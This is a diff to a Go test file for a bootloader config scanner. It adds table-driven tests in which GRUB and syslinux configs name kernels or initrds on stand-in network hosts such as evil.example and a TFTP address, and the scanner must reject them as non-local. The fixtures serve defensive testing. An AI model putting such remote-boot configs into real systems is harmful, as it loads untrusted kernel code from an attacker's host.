@@ -86,18 +86,47 @@ func TestScanDirNothing(t *testing.T) {
 	}
 }
 
-// A hostile config pointing outside the partition or at a missing file gives no bootable entry
-// for that line, and the reason is kept.
+// A hostile config naming a network file gives no bootable entry for that line, and the reason is
+// kept: the GRUB and syslinux parsers may fetch local files only.
 func TestScanDirHostile(t *testing.T) {
 	needGRUB(t)
-	root := t.TempDir()
-	write(t, root, "boot/grub/grub.cfg", "menuentry 'x' {\n linux http://evil.example/vmlinuz\n}\n")
-	got, errs := ScanDir(context.Background(), root, nil, &mount.Pool{})
-	if len(got) != 0 {
-		t.Errorf("ScanDir with a network kernel = %+v, want no entry", got)
+	for _, tc := range []struct{ name, file, cfg string }{
+		{"grub http", "boot/grub/grub.cfg", "menuentry 'x' {\n linux http://evil.example/vmlinuz\n}\n"},
+		{"grub tftp initrd", "boot/grub/grub.cfg", "menuentry 'x' {\n linux /vmlinuz\n initrd tftp://10.0.0.1/initrd\n}\n"},
+		{"syslinux tftp", "extlinux/extlinux.conf", "DEFAULT x\nLABEL x\n KERNEL tftp://10.0.0.1/vmlinuz\n"},
+		{"syslinux initrd http", "syslinux.cfg", "LABEL x\n KERNEL /vmlinuz\n INITRD /initrd,http://evil.example/initrd\n"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			root := t.TempDir()
+			write(t, root, "vmlinuz", "kernel")
+			write(t, root, tc.file, tc.cfg)
+			got, errs := ScanDir(context.Background(), root, nil, &mount.Pool{})
+			if len(got) != 0 {
+				t.Errorf("ScanDir with a network file = %+v, want no entry", got)
+			}
+			if !strings.Contains(strings.Join(errs, ";"), "only local files") {
+				t.Errorf("errors = %v, want one saying only local files are booted", errs)
+			}
+		})
 	}
-	if !strings.Contains(strings.Join(errs, ";"), "only local files") {
-		t.Errorf("errors = %v, want one saying only local files are booted", errs)
+}
+
+// TestScanDirSyslinux: an extlinux.conf gives its entry, with its initrds in order.
+func TestScanDirSyslinux(t *testing.T) {
+	needGRUB(t)
+	root := t.TempDir()
+	write(t, root, "boot/vmlinuz-6.1", "kernel")
+	write(t, root, "boot/initrd.img-6.1", "initrd")
+	write(t, root, "boot/ucode.img", "microcode")
+	write(t, root, "extlinux/extlinux.conf", "DEFAULT debian\nLABEL debian\n KERNEL /boot/vmlinuz-6.1\n INITRD /boot/ucode.img,/boot/initrd.img-6.1\n APPEND root=/dev/vda1 ro\n")
+	got, errs := ScanDir(context.Background(), root, nil, &mount.Pool{})
+	if len(got) != 1 {
+		t.Fatalf("ScanDir = %+v (errors %v), want one entry", got, errs)
+	}
+	e := got[0]
+	if e.Source != "syslinux" || e.Kernel != filepath.Join(root, "boot/vmlinuz-6.1") ||
+		!slices.Equal(e.Initrds, []string{filepath.Join(root, "boot/ucode.img"), filepath.Join(root, "boot/initrd.img-6.1")}) || !strings.Contains(e.Cmdline, "root=/dev/vda1 ro") {
+		t.Errorf("entry = %+v", e)
 	}
 }
 
